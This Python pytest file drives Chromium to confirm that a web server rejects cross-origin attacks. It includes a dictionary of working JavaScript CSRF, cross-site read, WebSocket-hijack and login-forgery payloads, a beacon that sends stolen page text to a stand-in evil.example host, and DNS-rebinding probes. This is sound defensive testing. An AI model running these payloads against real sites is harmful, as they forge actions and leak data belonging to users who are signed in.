"""A real browser: its owner comes in and works, with scripts and without; a page of another port or name gets nothing.

What a browser sends along by itself (cookies, Origin, Sec-Fetch-*) is what the entrance stands on: here it is not said by
a test but by Chromium.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import pytest

from ergos.drivers.http.message import Request
from ergos.drivers.http.reply import Responder
from ergos.drivers.http.server import HttpServer
from tests.server.entrances import HOST, OWNER, Door, door

if TYPE_CHECKING:
    from playwright.async_api import BrowserContext, Page

CHROMIUM: Final = Path("/usr/bin/chromium")
ARGUMENTS: Final = (
    "--no-sandbox",
    "--disable-dev-shm-usage",
    "--disable-gpu",
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
)
SETTLE_MS: Final = 800  # milliseconds in which an attack's requests are sent

ATTACKS: Final = {
    "a form that sends itself": """
        const f = document.createElement("form"); f.method = "post"; f.action = T + "/stop";
        f.innerHTML = "<input name=csrf value=x>"; document.body.append(f); f.submit();""",
    "a form of plain text": """
        const f = document.createElement("form"); f.method = "post"; f.enctype = "text/plain"; f.action = T + "/api/v1/stop";
        f.innerHTML = "<input name='{\\"on\\":true,\\"x\\":\\"' value='\\"}'>"; document.body.append(f); f.submit();""",
    "a form into a frame": """
        document.body.innerHTML = "<iframe name=i></iframe>";
        const f = document.createElement("form"); f.method = "post"; f.target = "i"; f.action = T + "/stop"; document.body.append(f); f.submit();""",
    "a fetch with cookies": "fetch(T + '/agents', {credentials: 'include'}).then(r => r.text()).then(t => got(t)).catch(() => 0);",
    "a fetch without cors": "fetch(T + '/stop', {method: 'POST', mode: 'no-cors', credentials: 'include', body: 'csrf=x'}).catch(() => 0);",
    "a fetch of JSON": """
        fetch(T + "/api/v1/stop", {method: "PUT", credentials: "include", headers: {"content-type": "application/json"}, body: "{}"}).catch(() => 0);""",
    "a beacon": "navigator.sendBeacon(T + '/stop', new Blob(['csrf=x'], {type: 'application/x-www-form-urlencoded'}));",
    "a picture": "document.body.innerHTML = `<img src='${T}/agents'>`;",
    "a script": "const s = document.createElement('script'); s.src = T + '/agents'; document.body.append(s);",
    "a style sheet": "document.head.innerHTML += `<link rel=stylesheet href='${T}/agents'>`;",
    "a frame": "document.body.innerHTML = `<iframe src='${T}/agents'></iframe>`;",
    "an object": "document.body.innerHTML = `<object data='${T}/agents'></object>`;",
    "a WebSocket": "const w = new WebSocket(T.replace('http', 'ws') + '/live'); w.onopen = () => got('open');",
    "an event stream": "const e = new EventSource(T + '/events', {withCredentials: true}); e.onmessage = m => got(m.data);",
    "a sign-in as somebody else": """
        const f = document.createElement("form"); f.method = "post"; f.action = T + "/enter";
        f.innerHTML = "<input name=code value=CODE>"; document.body.append(f); f.submit();""",
}  # fmt: skip


@asynccontextmanager
async def hostile(target: str, codes: Callable[[], str]) -> AsyncIterator[tuple[int, list[str]]]:
    """Pages of an attacker on a port of their own: /NUMBER is an attack; and what they got to read."""
    stolen: list[str] = []

    async def handle(request: Request, reply: Responder) -> None:
        number = request.path.strip("/")
        if number == "got":
            stolen.append(request.query)
        script = list(ATTACKS.values())[int(number)] if number.isdecimal() else ""
        script = script.replace("CODE", codes())
        told = "const got = (what) => navigator.sendBeacon('/got?' + encodeURIComponent(what));"
        page = f"<!doctype html><body><script>{told}const T = {target!r};{script}</script></body>"
        reply.send(200, {"content-type": "text/html"}, page.encode())

    server = HttpServer(handle)
    port = await server.start(HOST)
    try:
        yield port, stolen
    finally:
        await server.stop()


class Stage:
    """Chromium on a loop of its own, for a module of tests."""

    def __init__(self) -> None:
        api = pytest.importorskip("playwright.async_api", reason="Playwright is not installed")
        self._runner = asyncio.Runner()
        self._driver = api.async_playwright()
        self._chromium: Any = None
        self._runner.run(self._begun())

    async def _begun(self) -> None:
        playwright = await self._driver.start()
        self._chromium = await playwright.chromium.launch(executable_path=str(CHROMIUM), args=list(ARGUMENTS))

    def play(self, folder: Path, scenario: Callable[[Door, BrowserContext], Awaitable[None]], **options: Any) -> None:
        async def played() -> None:
            async with asyncio.timeout(100), door(folder) as opened:
                context = await self._chromium.new_context(**options)
                context.set_default_timeout(30_000)
                try:
                    await scenario(opened, context)
                finally:
                    await context.close()

        self._runner.run(played())

    def close(self) -> None:
        self._runner.run(self._chromium.close())
        self._runner.run(self._driver.__aexit__())
        self._runner.close()


@pytest.fixture(scope="module")
def stage() -> Iterator[Stage]:
    if not CHROMIUM.exists():
        pytest.skip("no Chromium at /usr/bin/chromium: on Debian, apt-get install chromium")
    made = Stage()
    yield made
    made.close()


async def signed_in(opened: Door, context: BrowserContext) -> Page:
    page = await context.new_page()
    await page.goto(f"{opened.origin}/enter/form?code={opened.register.code(OWNER)}")
    await page.click("button")
    await page.wait_for_url(f"{opened.origin}/")
    return page


async def attacked(context: BrowserContext, url: str) -> None:
    """Open a hostile page for a while."""
    page = await context.new_page()
    await page.goto(url, wait_until="commit")
    await page.wait_for_timeout(SETTLE_MS)
    await page.close()


def reached(opened: Door) -> list[str]:
    """What came through, but for the picture a browser asks of every site by itself."""
    return [one for one in opened.reached if "favicon" not in one]


@pytest.mark.parametrize("scripts", [True, False])
def test_its_owner_comes_in_and_works(stage: Stage, tmp_path: Path, scripts: bool) -> None:
    async def scenario(opened: Door, context: BrowserContext) -> None:
        page = await signed_in(opened, context)
        assert '"who":"alice"' in await page.inner_text("body")
        await page.goto(f"{opened.origin}/form")
        await page.click("button")
        assert '"path":"/stop"' in await page.inner_text("body")  # no script took part: Chromium named the right origin
        assert "POST /stop" in opened.reached
        cookie = (await context.cookies())[0]
        assert (cookie["httpOnly"], cookie["sameSite"], cookie["secure"]) == (True, "Strict", False)

    stage.play(tmp_path, scenario, java_script_enabled=scripts)


def test_a_link_of_another_site_leads_in(stage: Stage, tmp_path: Path) -> None:
    async def scenario(opened: Door, context: BrowserContext) -> None:
        page = await signed_in(opened, context)
        async with hostile(opened.origin, str) as (port, _):
            await page.goto(f"http://evil.example:{port}/")
            await page.set_content(f"<a href='{opened.origin}/process/7?tab=x&y=1'>there</a>")
            await page.click("a")
            await page.wait_for_function("document.body.innerText.includes('alice')")
            assert page.url == f"{opened.origin}/process/7?tab=x&y=1"

    stage.play(tmp_path, scenario)


def test_no_page_of_another_port_or_name_reaches_anything(stage: Stage, tmp_path: Path) -> None:
    async def scenario(opened: Door, context: BrowserContext) -> None:
        mine = await signed_in(opened, context)
        async with hostile(opened.origin, lambda: opened.register.code(OWNER)) as (port, stolen):
            for origin in (f"http://{HOST}:{port}", f"http://evil.example:{port}"):  # same site, and another
                opened.reached.clear()
                await asyncio.gather(*(attacked(context, f"{origin}/{number}") for number in range(len(ATTACKS))))
                assert reached(opened) == [], origin
                assert stolen == [], origin
            for rebound in (
                f"http://evil.example:{opened.port}/agents",
                f"http://localhost.evil.example:{opened.port}/",
            ):
                opened.reached.clear()
                page = await context.new_page()
                try:
                    answer = await page.goto(rebound)
                except Exception:  # the name has no address at all
                    continue
                assert answer is not None
                assert answer.status == 403
                assert reached(opened) == []
        await mine.reload()
        assert '"who":"alice"' in await mine.inner_text("body")  # still signed in, as who they were

    stage.play(tmp_path, scenario)
